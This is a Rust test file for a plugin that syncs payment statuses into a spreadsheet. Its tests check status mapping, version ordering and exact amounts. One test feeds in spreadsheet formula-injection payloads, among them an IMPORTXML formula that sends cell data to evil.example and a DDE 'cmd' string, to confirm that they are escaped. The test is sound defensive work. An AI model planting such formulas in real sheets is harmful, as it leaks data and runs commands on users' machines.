//! One row for each payment, and what may be written over what.

use crate::shop::{Shop, owed, payment};
use kamurj_sdk::testing::{self, channel};
use kamurj_sdk::{CrmRef, Payment};
use serde_json::json;

#[test]
fn each_status_has_its_name_in_the_row() {
    let table = [
        ("created", "awaiting_payment", ""),
        ("pending", "awaiting_payment", ""),
        ("paid", "paid", ""),
        ("failed", "payment_failed", ""),
        ("expired", "expired", ""),
        ("cancelled", "expired", "cancelled"),
        ("manual_review", "manual_review", ""),
        ("partially_refunded", "partial_refund", ""),
        ("refunded", "full_refund", ""),
    ];
    for (status, view, reason) in table {
        let shop = Shop::new();
        shop.tells(&payment("pay_1", status, 1));
        assert_eq!(shop.shows("pay_1", "Status"), view);
        assert_eq!(shop.shows("pay_1", "Reason"), reason);
    }
}

#[test]
fn a_row_shows_everything_that_is_known() {
    let shop = Shop::with(&json!({ "columns": [
        "order", "status", "amount", "currency", "paid_at", "refunded", "reference", "link", "description", "customer", "phone",
        "email", "attempts", "created_at", "expires_at", "channel", "crm", "reason", "updated_at", "version",
    ]}));
    let mut paid = payment("pay_1", "partially_refunded", 7);
    paid.customer.name = Some("Ани".to_owned());
    paid.customer.phone = Some("+37491234567".to_owned());
    paid.customer.email = Some("ani@example.am".to_owned());
    paid.attempts = 2;
    paid.channel = Some(channel("telegram", "5550001"));
    paid.crm = Some(CrmRef {
        plugin: "amocrm".to_owned(),
        entity_type: "lead".to_owned(),
        entity_id: "31".to_owned(),
        extra: Vec::new(),
    });
    shop.tells(&paid);
    let expected = [
        "pay_1",
        "A-1042",
        "partial_refund",
        "12500",
        "AMD",
        "2026-11-21T12:33:11+04:00",
        "2500.5",
        "arca:7f21",
        "https://pay.example.am/p/pay_1",
        "Cake",
        "Ани",
        "+37491234567",
        "ani@example.am",
        "2",
        "2026-11-21T12:33:20+04:00",
        "2026-11-22T12:33:20+04:00",
        "telegram: 5550001",
        "amocrm: lead 31",
        "",
        "2026-11-21T12:33:20+04:00",
        "7",
    ];
    assert_eq!(shop.rows("Payments"), [expected.map(str::to_owned).to_vec()]);
    let tab = shop.tab("Payments");
    assert_eq!(tab.rows[1].cells[3], json!(12500), "an amount is a number");
    assert!(tab.rows[1].cells[5].is_string(), "a moment is text");
}

#[test]
fn a_payment_has_one_row_from_its_making_to_its_refund() {
    let shop = Shop::new();
    for (status, version) in [
        ("created", 1),
        ("pending", 2),
        ("failed", 3),
        ("pending", 4),
        ("paid", 5),
        ("partially_refunded", 6),
        ("refunded", 7),
    ] {
        shop.tells(&payment("pay_1", status, version));
        shop.tells(&payment("pay_2", "created", version));
    }
    assert_eq!(shop.rows("Payments").len(), 2);
    assert_eq!(shop.shows("pay_1", "Status"), "full_refund");
    assert_eq!(shop.shows("pay_1", "Refunded"), "12500");
    assert_eq!(shop.shows("pay_2", "Status"), "awaiting_payment");
    assert_eq!(shop.rows("Payments")[0][0], "pay_2", "the newest is on top");
}

#[test]
fn payments_of_other_crms_stand_here_too() {
    let shop = Shop::new();
    let crm = CrmRef {
        plugin: "bitrix24".to_owned(),
        entity_type: "deal".to_owned(),
        entity_id: "10".to_owned(),
        extra: Vec::new(),
    };
    shop.tells(&Payment { crm: Some(crm), ..payment("pay_1", "created", 1) });
    assert_eq!(shop.shows("pay_1", "CRM"), "bitrix24: deal 10");
}

#[test]
fn a_change_costs_two_reads_and_two_writes_and_a_new_payment_one_read() {
    let shop = Shop::new();
    shop.tells(&payment("pay_1", "created", 1));
    assert_eq!(shop.calls(), ["developerMetadata:search", "batchUpdate", "batchUpdate"]);
    shop.tells(&payment("pay_1", "paid", 2));
    let expected =
        ["developerMetadata:search", "values:batchGetByDataFilter", "values:batchUpdateByDataFilter", "batchUpdate"];
    assert_eq!(shop.calls(), expected);
}

#[test]
fn an_older_version_never_stands_over_a_newer_one() {
    let shop = Shop::new();
    shop.tells(&payment("pay_1", "paid", 5));
    shop.tells(&payment("pay_1", "manual_review", 4));
    shop.tells(&payment("pay_1", "created", 1));
    assert_eq!(shop.shows("pay_1", "Status"), "paid");
    assert_eq!(shop.shows("pay_1", "Version"), "5");
    // Nor where the memory is gone and only the row knows.
    let other = shop.again(&json!({}));
    other.tells(&payment("pay_1", "manual_review", 4));
    assert_eq!(shop.shows("pay_1", "Status"), "paid");
    // Nor where the row has no column for it.
    let shop = Shop::with(&json!({ "columns": ["status"] }));
    shop.tells(&payment("pay_1", "manual_review", 5));
    shop.tells(&payment("pay_1", "failed", 4));
    assert_eq!(shop.shows("pay_1", "Status"), "manual_review");
}

#[test]
fn nothing_unpaid_stands_over_money_that_was_taken() {
    for settled in ["paid", "partially_refunded", "refunded"] {
        for unpaid in ["created", "pending", "failed", "expired", "cancelled"] {
            let shop = Shop::new();
            shop.tells(&payment("pay_1", settled, 3));
            let before = shop.shows("pay_1", "Status");
            shop.tells(&payment("pay_1", unpaid, 4));
            assert_eq!(shop.shows("pay_1", "Status"), before, "{settled} {unpaid}");
        }
    }
    let shop = Shop::new();
    shop.tells(&payment("pay_1", "paid", 3));
    shop.tells(&payment("pay_1", "manual_review", 4));
    assert_eq!(shop.shows("pay_1", "Status"), "manual_review", "a review is no unpaid state");
}

#[test]
fn the_same_version_is_written_again_so_that_a_row_can_be_put_right() {
    let shop = Shop::new();
    let paid = payment("pay_1", "paid", 3);
    shop.tells(&paid);
    shop.change("Payments", |tab| tab.set(1, 2, json!("expired")));
    let mut again = owed(&paid);
    again.id = "dlv_again".to_owned();
    assert_eq!(shop.sync(&again).kind, "done");
    assert_eq!(shop.shows("pay_1", "Status"), "paid");
}

#[test]
fn an_unknown_status_and_unknown_events_change_nothing() {
    let shop = Shop::new();
    shop.tells(&payment("pay_1", "something_new", 3));
    for event in ["payment.something_new", "exception.opened", "payment.reminder"] {
        assert_eq!(shop.sync(&testing::delivery(event, payment("pay_1", "paid", 3))).kind, "done");
    }
    assert!(shop.calls().is_empty());
}

#[test]
fn what_strangers_write_stays_text() {
    let shop =
        Shop::with(&json!({ "columns": ["order", "description", "customer", "email", "channel"], "history_tab": "" }));
    let mut hostile = payment("pay_1", "created", 1);
    "=1+1".clone_into(&mut hostile.order_id);
    "=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")".clone_into(&mut hostile.description);
    hostile.customer.name = Some("\t@SUM(A1:A9)\u{202E}".to_owned());
    hostile.customer.email = Some("+cmd|' /C calc'!A0".to_owned());
    hostile.channel = Some(channel("telegram", "-100"));
    for version in [1, 2] {
        hostile.version = version;
        shop.tells(&hostile);
        let row = &shop.rows("Payments")[0];
        assert_eq!(
            row[1..],
            [
                "'=1+1",
                "'=IMPORTXML(\"https://evil.example/?\"&A1,\"//a\")",
                "'@SUM(A1:A9)",
                "'+cmd|' /C calc'!A0",
                "telegram: -100"
            ]
        );
    }
}

#[test]
fn amounts_are_exact_in_every_currency() {
    for (minor, currency, text) in [
        (1_250_050, "AMD", "12500.5"),
        (1_250_055, "AMD", "12500.55"),
        (1, "USD", "0.01"),
        (7, "JPY", "7"),
        (1234, "KWD", "1.234"),
        (999_999_999_999_999, "AMD", "9999999999999.99"),
    ] {
        let shop = Shop::new();
        let mut made = payment("pay_1", "created", 1);
        made.amount = kamurj_sdk::Money { minor, currency: currency.to_owned() };
        for version in [1, 2] {
            made.version = version;
            shop.tells(&made);
            let tab = shop.tab("Payments");
            assert!(tab.rows[1].cells[3].is_number());
            assert_eq!(tab.rows[1].cells[3].to_string(), text);
        }
    }
}
